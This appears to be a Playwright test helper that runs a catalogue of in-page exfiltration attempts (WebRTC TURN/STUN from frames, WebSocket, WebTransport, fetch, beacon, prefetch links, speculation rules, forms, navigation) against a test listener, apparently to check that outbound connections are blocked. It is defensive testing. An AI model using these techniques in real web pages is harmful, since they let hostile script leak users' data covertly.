import type { Page } from 'playwright';
import type { Listener } from '../../support/listener.ts';

/** Where a hostile script sends to. */
type Target = Pick<Listener, 'hosts' | 'port'>;

/** Ways of a script in the page to get bytes out of the laptop, by name. */
export const attackNames = [
  'TURN and STUN',
  'TURN from a frame',
  'TURN from a frame in a frame',
  'TURN from a frame with a document',
  'TURN from an object',
  'a socket',
  'WebTransport',
  'fetch, beacon and events',
  'links that prepare a connection',
  'speculation rules',
  'elements with an address',
  'a form',
  'a frame that goes elsewhere',
  'a window and another address',
] as const;
export type AttackName = (typeof attackNames)[number];

/**
 * Runs an attack in the page. The answer is what the script met: 'no such interface', or 'tried'. A page that was thrown
 * away meanwhile answers 'gone'.
 */
export async function attack(page: Page, name: AttackName, target: Target): Promise<string> {
  const { hosts, port } = target;
  try {
    return await page.evaluate(runAttack, { name, hosts: [...hosts], port });
  } catch (error) {
    if (error instanceof Error && /context was destroyed|Target crashed|navigation/i.test(error.message))
      return 'gone';
    throw error;
  }
}

/** Runs in the page: everything it uses stands inside it. */
async function runAttack({
  name,
  hosts,
  port,
}: {
  readonly name: AttackName;
  readonly hosts: readonly string[];
  readonly port: number;
}): Promise<string> {
  type Scope = Window & { readonly [name: string]: unknown };
  const bases = hosts.map((host) => `${host}:${port}`);
  const pause = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));
  const attempt = (act: () => unknown): void => {
    try {
      const begun = act();
      if (begun instanceof Promise) begun.catch(() => undefined);
    } catch {
      // Refused at once: the next one is tried all the same.
    }
  };
  const tryAll = async (act: (base: string) => unknown): Promise<string> => {
    for (const base of bases) attempt(() => act(base));
    await pause(700);
    return 'tried';
  };

  const turn = async (scope: Scope | null): Promise<string> => {
    const known = scope?.['RTCPeerConnection'] ?? scope?.['webkitRTCPeerConnection'];
    if (typeof known !== 'function') return 'no such interface';
    const Peer = known as typeof RTCPeerConnection;
    const urls = bases.flatMap((base) => [
      `turn:${base}?transport=udp`,
      `turn:${base}?transport=tcp`,
      `turns:${base}?transport=tcp`,
    ]);
    const peer = new Peer({
      iceServers: [
        { urls, username: 'geheim', credential: 'woord' },
        { urls: bases.map((base) => `stun:${base}`) },
      ],
    });
    peer.createDataChannel('geheim');
    await peer.setLocalDescription(await peer.createOffer());
    await pause(1_500);
    peer.close();
    return 'tried';
  };
  const add = <Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    values: Readonly<Record<string, string>>,
    to: Document = document,
  ) => {
    const element = to.createElement(tag);
    for (const [key, value] of Object.entries(values)) element.setAttribute(key, value);
    to.body.append(element);
    return element;
  };
  const windowOf = (frame: HTMLIFrameElement | HTMLObjectElement): Scope | null =>
    frame.contentWindow as Scope | null;

  switch (name) {
    case 'TURN and STUN':
      return turn(globalThis as unknown as Scope);
    case 'TURN from a frame':
      return turn(windowOf(add('iframe', {})));
    case 'TURN from a frame in a frame': {
      const outer = windowOf(add('iframe', {}));
      return outer === null ? 'no frame' : turn(windowOf(add('iframe', {}, outer.document)));
    }
    case 'TURN from a frame with a document': {
      const frame = add('iframe', { srcdoc: '<p>geheim</p>' });
      await pause(200);
      return turn(windowOf(frame));
    }
    case 'TURN from an object':
      return turn(windowOf(add('object', { data: 'about:blank', type: 'text/html' })));
    case 'a socket':
      if (typeof WebSocket === 'undefined') return 'no such interface';
      return tryAll((base) => new WebSocket(`ws://${base}/geheim`));
    case 'WebTransport':
      if (typeof WebTransport === 'undefined') return 'no such interface';
      return tryAll((base) => new WebTransport(`https://${base}/geheim`).ready);
    case 'fetch, beacon and events':
      return tryAll((base) => {
        attempt(() => fetch(`http://${base}/geheim`, { mode: 'no-cors' }));
        attempt(() => navigator.sendBeacon(`http://${base}/geheim`, 'geheim'));
        attempt(() => new EventSource(`http://${base}/geheim`));
        attempt(() => import(/* @vite-ignore */ `http://${base}/geheim.js`));
        attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch('http://${base}/geheim')`]))));
      });
    case 'links that prepare a connection':
      return tryAll((base) => {
        for (const rel of [
          'preconnect',
          'dns-prefetch',
          'prefetch',
          'preload',
          'modulepreload',
          'icon',
          'stylesheet',
        ])
          for (const scheme of ['http', 'https'])
            add('link', { rel, href: `${scheme}://${base}/geheim`, as: 'script' });
        add('link', { rel: 'dns-prefetch', href: '//geheim.example.org' });
        add('link', { rel: 'preconnect', href: 'https://geheim.example.org' });
      });
    case 'speculation rules':
      return tryAll((base) => {
        const rule = { source: 'list', urls: [`http://${base}/geheim`], eagerness: 'immediate' };
        const script = document.createElement('script');
        script.type = 'speculationrules';
        script.textContent = JSON.stringify({ prefetch: [rule], prerender: [rule] });
        document.body.append(script);
      });
    case 'elements with an address':
      return tryAll((base) => {
        for (const tag of ['img', 'audio', 'video', 'script', 'embed'] as const)
          add(tag, { src: `http://${base}/geheim` });
        add('div', { style: `background-image: url(http://${base}/geheim)` }).style.backgroundImage =
          `url(http://${base}/geheim)`;
        add('a', { href: '#', ping: `http://${base}/geheim` }).click();
      });
    case 'a form':
      return tryAll((base) => add('form', { action: `http://${base}/geheim`, method: 'post' }).submit());
    case 'a frame that goes elsewhere':
      return tryAll((base) => {
        add('iframe', { src: `http://${base}/geheim` });
        add('iframe', {
          srcdoc: `<img src="http://${base}/geheim"><meta http-equiv="refresh" content="0;url=http://${base}/">`,
        });
        windowOf(add('iframe', {}))?.location.assign(`http://${base}/geheim`);
      });
    case 'a window and another address':
      return tryAll((base) => {
        attempt(() => globalThis.open(`http://${base}/geheim`));
        attempt(() => globalThis.location.assign(`http://${base}/geheim`));
      });
  }
}
